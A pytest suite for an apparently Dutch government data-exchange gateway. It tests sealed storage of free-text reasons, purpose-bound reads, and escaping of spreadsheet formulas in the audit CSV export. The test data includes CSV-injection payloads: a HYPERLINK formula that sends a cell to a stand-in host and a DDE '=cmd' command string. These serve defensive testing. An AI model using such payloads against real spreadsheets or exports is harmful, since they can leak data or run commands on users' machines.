"""Free text is personal data too (issue 12, item 12): reasons are sealed at rest and kept out of the
audit log, the audit CSV export cannot run as a spreadsheet formula, and a sender reads its own copy
only for a purpose it may have. On SQLite and PostgreSQL."""
import csv
import io
import json

import pytest
from cryptography.exceptions import InvalidTag
from sqlalchemy import text

from gateway.crypto import Sealed
from tests.scenario import Chain, problem

MARKER = "Reden-7f3a: betrokkene woont bij zijn zus in Almere"


async def rows(services, table: str) -> list[dict]:
    async with services.db.read() as session:
        conn = await session.connection()
        return [dict(r._mapping) for r in (await conn.execute(text(f"SELECT * FROM {table}"))).all()]


def mentions(row: dict, needle: str) -> bool:
    for value in row.values():
        raw = value if isinstance(value, bytes) else json.dumps(value, default=str, ensure_ascii=False).encode()
        if needle.encode() in raw:
            return True
    return False


async def test_a_rejection_reason_is_sealed_at_rest_shown_to_the_parties_and_kept_out_of_the_audit_log(client, orgs, services):
    chain = Chain(client, orgs)
    mid = (await chain.send(orgs.vught, "release-notice", ["municipality:0363"], purpose="aftercare")).json()["id"]
    r = await client.post(f"/api/v1/messages/{mid}/acknowledgements", headers=orgs.amsterdam.headers(),
                          json={"status": "rejected", "reason": MARKER})
    assert r.status_code == 201 and r.json()["acknowledgementReason"] == MARKER  # the recipient's own answer

    [delivery] = [d for d in await rows(services, "deliveries") if d["message_id"] == mid]
    assert not mentions(delivery, MARKER) and not mentions(delivery, "Almere")
    assert delivery["acknowledgement_reason"] is None and delivery["acknowledgement_reason_ciphertext"]
    sealed = Sealed(bytes(delivery["acknowledgement_reason_ciphertext"]), bytes(delivery["acknowledgement_reason_wrapped_key"]),
                    delivery["acknowledgement_reason_key_id"])
    with pytest.raises(InvalidTag):  # bound to this delivery: not to be opened as another row's reason, or a payload
        services.keyring.open(sealed, aad=mid.encode())

    audit = await rows(services, "audit_records")
    assert not any(mentions(a, "Almere") for a in audit)
    [ack] = [a for a in audit if a["activity"] == "acknowledge"]
    assert ack["outcome"] == "rejected" and ack["detail"] == "rejected, with a reason"
    assert not any(mentions(e, "Almere") for e in await rows(services, "outbox"))


async def test_the_sender_sees_the_rejection_reason(client, orgs):
    chain = Chain(client, orgs)
    mid = (await chain.send(orgs.vught, "release-notice", ["municipality:0363"], purpose="aftercare")).json()["id"]
    await client.post(f"/api/v1/messages/{mid}/acknowledgements", headers=orgs.amsterdam.headers(),
                      json={"status": "rejected", "reason": MARKER})
    status = (await client.get(f"/api/v1/messages/{mid}/deliveries", headers=orgs.vught.headers())).json()
    assert status[0]["acknowledgementReason"] == MARKER
    sent = (await client.get("/api/v1/messages", params={"direction": "sent"}, headers=orgs.vught.headers())).json()
    assert sent["items"][0]["deliveries"][0]["acknowledgementReason"] == MARKER
    inbox = (await client.get("/api/v1/inbox", headers=orgs.amsterdam.headers())).json()
    assert inbox["items"][0]["deliveries"][0]["acknowledgementReason"] == MARKER


async def test_a_withdrawal_reason_is_sealed_at_rest_and_kept_out_of_the_audit_log(client, orgs, services):
    chain = Chain(client, orgs)
    consent = await chain.consent(orgs.vught, categories=["children-family"], recipient_kinds=["municipality"])
    r = await client.post(f"/api/v1/consents/{consent['id']}/withdrawal", headers=orgs.vught.headers(), json={"reason": MARKER})
    assert r.status_code == 201 and r.json()["withdrawalReason"] == MARKER  # the answer to whoever withdrew it

    [row] = await rows(services, "consents")
    assert not mentions(row, "Almere") and row["withdrawal_reason"] is None and row["withdrawal_reason_ciphertext"]
    assert not any(mentions(a, "Almere") for a in await rows(services, "audit_records"))
    assert not any(mentions(e, "Almere") for e in await rows(services, "outbox"))


FORMULAS = ["=HYPERLINK(\"http://x.example/\"&A1)", "+SUM(1,2)", "-2+3", "@SUM(1)", "\tcmd", "\rcmd"]


async def test_the_csv_export_neutralises_formulas_and_the_jsonl_export_keeps_values(client, orgs, services):
    from gateway.services import Actor

    async with services.unit_of_work(Actor(orgs.vught.oin, "dji", token_id="=cmd|' /C calc'!A0")) as uow:
        for value in FORMULAS:
            uow.audit("read", "allow", detail=value, purpose="aftercare")
    export = await client.get("/api/v1/audit/export", params={"format": "csv"}, headers=orgs.inspectorate.headers())
    table = list(csv.DictReader(io.StringIO(export.text.removeprefix("\ufeff"))))
    details = [r["detail"] for r in table if r["activity"] == "read"]
    assert details == ["'" + v for v in FORMULAS]
    assert {r["tokenId"] for r in table if r["activity"] == "read"} == {"'=cmd|' /C calc'!A0"}
    cells = [v for r in table for v in r.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"]
    assert all(r["seq"].isdigit() for r in table)  # numbers stay numbers

    jsonl = await client.get("/api/v1/audit/export", params={"format": "jsonl"}, headers=orgs.inspectorate.headers())
    lines = [json.loads(line) for line in jsonl.text.splitlines()]
    assert [r["detail"] for r in lines if r["activity"] == "read"] == FORMULAS


async def test_a_jti_shaped_like_a_formula_is_neutralised_in_the_csv_export(client, orgs):
    """The token id is the caller's own choice, and it lands in every audit record of the request."""
    await Chain(client, orgs).send(orgs.vught, "release-notice", ["municipality:0363"], purpose="aftercare")
    mid = (await client.get("/api/v1/inbox", headers=orgs.amsterdam.headers())).json()["items"][0]["id"]
    read = await client.get(f"/api/v1/messages/{mid}", params={"purpose": "aftercare"},
                            headers={"Authorization": f"Bearer {orgs.amsterdam.token(jti='@SUM(A1:A9)-evil')}"})
    assert read.status_code == 200
    export = await client.get("/api/v1/audit/export", params={"format": "csv"}, headers=orgs.inspectorate.headers())
    tokens = {r["tokenId"] for r in csv.DictReader(io.StringIO(export.text.removeprefix("\ufeff")))}
    assert "'@SUM(A1:A9)-evil" in tokens and "@SUM(A1:A9)-evil" not in tokens


async def test_a_sender_reads_its_own_copy_only_for_a_purpose_it_may_have(client, orgs):
    chain = Chain(client, orgs)
    mid = (await chain.send(orgs.vught, "release-notice", ["municipality:0363"], purpose="aftercare")).json()["id"]
    assert (await chain.read(orgs.vught, mid, "aftercare")).json()["readPurpose"] == "aftercare"  # the purpose it sent for
    assert (await chain.read(orgs.vught, mid, "reintegration")).status_code == 200  # its rule dji -> municipality allows it
    for purpose in ("public-order", "supervision", "marketing"):  # other rules' purposes, or none at all
        r = await chain.read(orgs.vught, mid, purpose, expect=403)
        assert purpose in problem(r, 403, "purpose-not-allowed")["detail"]

    logged = (await client.get("/api/v1/audit/records", params={"messageId": mid, "pageSize": 100},
                               headers=orgs.inspectorate.headers())).json()["items"]
    own = [(x["activity"], x["outcome"], x["purpose"]) for x in logged
           if x["actorOin"] == orgs.vught.oin and x["activity"] in ("read", "deny")]
    assert own == [("read", "own-copy", "aftercare"), ("read", "own-copy", "reintegration"),
                   ("deny", "purpose-not-allowed", "public-order"), ("deny", "purpose-not-allowed", "supervision"),
                   ("deny", "purpose-not-allowed", "marketing")]
